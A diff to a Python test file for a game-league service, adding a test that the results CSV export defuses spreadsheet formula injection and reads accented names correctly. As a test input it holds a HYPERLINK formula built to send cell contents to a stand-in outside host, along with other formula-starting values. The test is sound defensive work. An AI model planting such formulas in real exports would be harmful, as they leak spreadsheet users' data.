@@ -143,7 +143,7 @@ def test_every_result_is_on_the_results_pages_and_in_the_csv(mosquitto, league, 
     status, second = get(league, "/results?page=2")
     assert first.count(b"P59 ") == 1 and second.count(b"<tr><td>") == 10 and b"P0 " in second
     status, body = get(league, "/results.csv")
-    rows = list(csv.reader(io.StringIO(body.decode())))
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
     assert rows[0][:3] == ["finished", "table", "game"] and len(rows) == 61
     assert rows[1][7] == "P0" and rows[1][-2] == "P0", "oldest first; the winner named"
     exported = admin(league, "export", "--out", str(tmp_path / "board.csv"))
@@ -206,3 +206,27 @@ def test_a_seasons_name_used_before_is_refused_and_never_brings_its_standings_ba
         refused = admin(league, "season", "start", taken)
         assert refused.returncode == 2 and "a name of its own" in refused.stderr
     assert "Ana" in admin(league, "standings", "--period", "Winter 2027").stdout, "the old season is kept"
+
+
+def test_the_csv_carries_no_formula_and_a_spreadsheet_reads_its_accents(mosquitto, league, tmp_path):
+    """Issue 39, item 4: a name "-A1", a level "+1+1" and a season '=HYPERLINK(…)' went out as
+    formulas. Each such cell starts with an apostrophe (OWASP's CSV injection guidance), and the
+    file starts with UTF-8's byte-order mark, by which Excel reads "Élodie" right."""
+    season = '=HYPERLINK("http://x.test/?"&A1,"Prize")'
+    assert admin(league, "season", "start", season).returncode == 0
+    message = result_message("table1", 1, (("red", "-A1", 2), ("blue", "Élodie", 1)))
+    hostile = type(message)(message.id, message.game, "+1+1", message.finished, message.players)
+    with Publisher(mosquitto.unit("table1"), tmp_path / "unit", resend_after=0.5) as unit:
+        unit.result(hostile)
+        assert wait_until(lambda: league.count() == 1)
+    status, body = get(league, "/results.csv")
+    exported = admin(league, "export", "--out", str(tmp_path / "board.csv"))
+    assert status == 200 and exported.returncode == 0
+    assert (tmp_path / "board.csv").read_bytes() == body
+    assert body.startswith(b"\xef\xbb\xbf"), "a UTF-8 byte-order mark"
+    header, row = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["name 1"] == "'-A1" and cells["level"] == "'+1+1" and cells["period"] == "'" + season
+    assert cells["winner"] == "'-A1" and cells["name 2"] == "Élodie"
+    assert not [value for value in header + row if value.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert body.decode("utf-8-sig").splitlines()[1].startswith('"'), "every cell quoted"
